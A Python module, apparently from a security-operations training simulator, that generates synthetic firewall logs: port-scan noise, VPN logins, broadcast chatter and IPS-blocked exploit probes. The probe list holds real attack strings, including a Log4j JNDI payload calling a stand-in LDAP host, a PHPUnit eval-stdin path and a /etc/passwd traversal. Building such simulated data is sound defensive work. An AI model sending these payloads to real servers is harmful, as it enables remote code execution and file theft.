"""Ordinary scene: the Internet's background noise at the border, and people who work from home.

Every public address is knocked on all day by many hosts, a few ports each; the firewall drops it. Some of it reaches
what is published and is dropped there by the IPS. None of it is worth an analyst's minute.
"""

from __future__ import annotations

from soc.story import cast, fortigate_utm
from soc.story.chance import Dice
from soc.story.sites import home, stranger, stranger6
from soc.story.stage import PORTAL_IN, Stage
from soc.story.times import MINUTE, SECOND, at, even_moments, regular_moments, working_moments
from soc.story.wire import UDP, Connection

_KNOCKS = (22, 23, 80, 81, 443, 445, 1433, 2323, 3306, 3389, 5060, 5555, 6379, 7547, 8080, 8088, 8443, 9200, 37215)
_PUBLIC = tuple(f"203.0.113.{last}" for last in (4, 7, 10, 12, 25, 30, 33, 41, 50, 61, 80, 99))
_PUBLIC6 = ("2001:db8:a113:20::11", "2001:db8:a113:20::25", "2001:db8:a113:20::53")
_PROBES = (
    (51006, "Apache.Log4j.Error.Log.Remote.Code.Execution", "critical", "/?x=${jndi:ldap://198.18.7.7/a}"),
    (47541, "ThinkPHP.Controller.Parameter.Remote.Code.Execution", "critical", "/index.php?s=/index/think/app"),
    (
        49999,
        "PHPUnit.Eval-stdin.PHP.Remote.Code.Execution",
        "high",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ),
    (45765, "D-Link.Devices.HNAP.SOAPAction.Header.Command.Execution", "high", "/HNAP1"),
    (10763, "Web.Server.Password.Files.Access", "medium", "/../../../../etc/passwd"),
)


def play(stage: Stage) -> None:
    """Noise outside, and staff at home coming in by VPN."""
    dice = stage.dice("border")
    _noise(stage, dice)
    _probes(stage, dice)
    _chatter(stage, dice)
    _home_office(stage, dice)
    _firewalls(stage, dice)


def _noise(stage: Stage, dice: Dice) -> None:
    for moment in even_moments(dice, 330):
        address, country = stranger(dice)
        firewall = stage.fw113 if dice.chance(0.75) else stage.fw39
        target = dice.pick(_PUBLIC) if firewall is stage.fw113 else "203.0.113.3"
        for turn in range(dice.whole(1, 4)):
            start = moment + turn * dice.whole(200_000, 4_000_000)
            wire = Connection(start, 0, address, dice.whole(1_100, 65_500), target, dice.pick(_KNOCKS), 0, 0)
            if target in ("203.0.113.3", "203.0.113.4"):
                firewall.local(wire, country)
            else:
                firewall.denied(wire, (country, "Vietnam"))
    for moment in even_moments(dice, 60):
        address, country = stranger6(dice)
        wire = Connection(
            moment, 0, address, dice.whole(1_100, 65_500), dice.pick(_PUBLIC6), dice.pick((22, 23, 8080)), 0, 0
        )
        stage.fw113.denied(wire, (country, "Vietnam"))


def _probes(stage: Stage, dice: Dice) -> None:
    """Exploit attempts that the IPS dropped: each from another host, none got through."""
    for moment in even_moments(dice, 14):
        address, country = stranger(dice)
        number, name, severity, url = dice.pick(_PROBES)
        wire = Connection(moment, 400_000, address, dice.whole(1_100, 65_500), cast.PORTAL_PUBLIC, 80, 620, 0)
        fortigate_utm.intrusion(
            stage.fw113, wire, PORTAL_IN, (number, name, severity), country=country, host=cast.PORTAL_PUBLIC, url=url
        )


def _chatter(stage: Stage, dice: Dice) -> None:
    """Windows announces itself to the whole floor, the firewall included."""
    for moment in working_moments(dice, 300):
        person = dice.pick(cast.THD113)
        everyone = person.address.rpartition(".")[0] + ".255"
        port = dice.pick((137, 138))
        wire = Connection(moment, 0, person.address, port, everyone, port, 0, 0, UDP)
        stage.fw113.local(wire, "Reserved", app="netbios forward")
    for moment in working_moments(dice, 120):
        person = dice.pick(cast.OFFICE_ATBX)
        wire = Connection(moment, 0, person.address, 5353, "224.0.0.251", 5353, 0, 0, UDP)
        stage.fw39.local(wire, "Reserved")


def _home_office(stage: Stage, dice: Dice) -> None:
    """Some work from home; one needs three tries at the password."""
    for tunnel, person in enumerate(dice.some(cast.ELSEWHERE, 24), 52_118_004):
        moment = working_moments(dice, 1)[0]
        remote = home(dice)
        for miss in range(dice.pick((0, 0, 0, 0, 1, 3))):
            fortigate_utm.ssl_vpn(
                stage.fw113,
                moment - (miss + 1) * dice.whole(9, 20) * SECOND,
                person.login,
                remote,
                "Vietnam",
                "fail",
                0,
            )
        inside = f"10.1.60.{tunnel % 200 + 10}"
        fortigate_utm.ssl_vpn(stage.fw113, moment, person.login, remote, "Vietnam", "up", tunnel, inside)
        fortigate_utm.ssl_vpn(
            stage.fw113, moment + dice.whole(10, 160) * MINUTE, person.login, remote, "Vietnam", "down", tunnel, inside
        )


def _firewalls(stage: Stage, dice: Dice) -> None:
    """The firewalls about themselves, and their administrators at work."""
    for firewall, uptime in ((stage.fw113, 8_211_300), (stage.fw39, 3_004_100)):
        for turn, moment in enumerate(regular_moments(dice, 5 * MINUTE)):
            sessions = dice.whole(2_100, 9_800)
            fortigate_utm.performance(
                firewall, moment, dice.whole(3, 31), dice.whole(41, 47), sessions, uptime + turn * 300
            )
    for turn, moment in enumerate(regular_moments(dice, 10 * MINUTE)):
        counters = (600 * (turn + 900), 91_000_233 * (turn + 40), 55_120_871 * (turn + 40))
        fortigate_utm.ipsec_statistics(stage.fw113, moment, cast.EGRESS39, "THD113-THD39", counters)
    admin = cast.ADMINS[0]
    for clock, succeeded in (("08:12:09", False), ("08:12:21", True), ("10:48:40", True)):
        fortigate_utm.admin_login(stage.fw113, at(clock), admin.login, admin.address, "10.1.99.1", succeeded)
    fortigate_utm.admin_login(stage.fw39, at("09:33:11"), admin.login, admin.address, "10.2.99.1", True)
